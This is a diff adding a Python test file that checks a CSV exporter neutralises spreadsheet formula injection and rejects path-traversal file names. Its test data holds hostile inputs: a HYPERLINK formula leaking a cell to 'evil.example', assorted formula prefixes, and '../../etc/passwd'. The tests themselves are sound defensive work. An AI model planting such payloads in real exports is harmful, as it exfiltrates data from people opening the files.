@@ -1,0 +1,114 @@
+"""Tables that any spreadsheet reads, and in which none finds a formula."""
+
+from __future__ import annotations
+
+import csv
+import io
+import re
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from tests.export.customer import PURCHASE, buy, files_of, somebody
+from vault.export.csv_tables import harmless, paths
+
+FORMULAS = [
+    "=1+1",
+    "+1+1",
+    "-1+1",
+    "@SUM(A1)",
+    "\t=1",
+    "\r=1",
+    "\n=1",
+    " =1",
+    "\u00a0=1",
+    "\ufeff=1",
+    "\u200b=1",
+    "\u061c=1",
+    "\u180e=1",
+    "\u2066=1",
+    "\uff1d1",
+    "\uff0b1",
+    "\uff0dcmd",
+    "\uff20SUM",
+    "'=1",
+    '"=1',
+    '=HYPERLINK("http://evil.example/?"&A1)',
+    "+442079460123",
+]
+INSIDE = ["a;=1+1", "a\t=1", "a\n=1", "a\r\n@x", "a|+1", 'a";=1', "a; =1", "a;\uff1d1"]
+
+
+@pytest.mark.parametrize("value", FORMULAS)
+def test_a_formula_gets_an_apostrophe_before_it(value):
+    assert harmless(value).startswith(f"'{value[0]}")
+    assert harmless(value).replace("'", "") == value.replace("'", "")
+
+
+@pytest.mark.parametrize("value", INSIDE)
+def test_what_another_separator_would_make_a_formula_gets_one_too(value):
+    written = harmless(value)
+
+    assert re.sub(r"(?<=[;|\t\r\n])'", "", written) == value
+    assert not re.search(r"[;|\t\r\n]\s*[=+@\-\uff1d]", written)
+
+
+@pytest.mark.parametrize("value", ["", "a", "12.90", "-12.90", "0", "a=b", "a-b", "x; y", "2026-03-05", "Ada & Co"])
+def test_everything_else_stays_as_it_is(value):
+    assert harmless(value) == value
+
+
+@given(st.text(alphabet=st.sampled_from("=+-@;|\t\r\n '\"ab1\uff1d\u00a0"), max_size=12))
+@settings(max_examples=200)
+def test_nothing_is_lost_and_no_part_begins_a_formula(value):
+    written = harmless(value)
+
+    assert len(written) >= len(value)
+    assert [each for each in written if each != "'"] == [each for each in value if each != "'"]
+    if not re.fullmatch(r"-?\d+", value):
+        for part in re.split(r"[;|\t\r\n]", written):
+            assert not part.strip().startswith(tuple("=+-@\uff1d")), (value, written)
+
+
+async def test_a_table_reads_back_what_it_holds(sqlite_node):
+    subject = await somebody(sqlite_node, records={}, purchases=0)
+    await buy(sqlite_node, subject, 1, product='Say "hi", \u00e9', store="=2+5")
+    files = await files_of(sqlite_node, subject)
+    raw = files["csv/purchase.csv"]
+
+    assert raw.startswith(b"\xef\xbb\xbf")
+    assert raw.endswith(b"\r\n")
+    ((head, row), text) = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline=""), strict=True)), raw.decode()
+    told = dict(zip(head, row, strict=True))
+    assert told | {"product": 'Say "hi", é', "store": "'=2+5"} == told
+    assert told["amount"] == PURCHASE["amount"] == "-12.90"
+    assert (told["source"], told["kept_until"]) == ("shop", "2036-03-05")
+    assert text.count("\r\n") == 2
+    assert all(line.startswith(('"', "\ufeff")) for line in text.split("\r\n")[:-1])
+
+
+async def test_an_address_has_a_column_for_each_part(sqlite_node):
+    files = await files_of(sqlite_node, await somebody(sqlite_node, records={}, purchases=0))
+    head, row = csv.reader(io.StringIO(files["csv/profile.csv"].decode("utf-8-sig"), newline=""))
+    told = dict(zip(head, row, strict=True))
+
+    assert told["address.city"] == "London"
+    assert told["address.region"] == ""
+    assert told["phone"] == "'+442079460123"
+    assert told["preferences"] == '{"news":true,"topics":["poetry","engines"]}'
+
+
+def test_files_are_called_by_their_collection_unless_no_file_may_be_called_so():
+    named = paths(["purchase", "../../etc/passwd", "con", "a/b", "com1", "A", ""])
+
+    assert list(named.values()) == [
+        "csv/purchase.csv",
+        "csv/collection-2.csv",
+        "csv/con_.csv",
+        "csv/collection-4.csv",
+        "csv/com1_.csv",
+        "csv/collection-6.csv",
+        "csv/collection-7.csv",
+    ]
+    assert len(set(named.values())) == len(named)
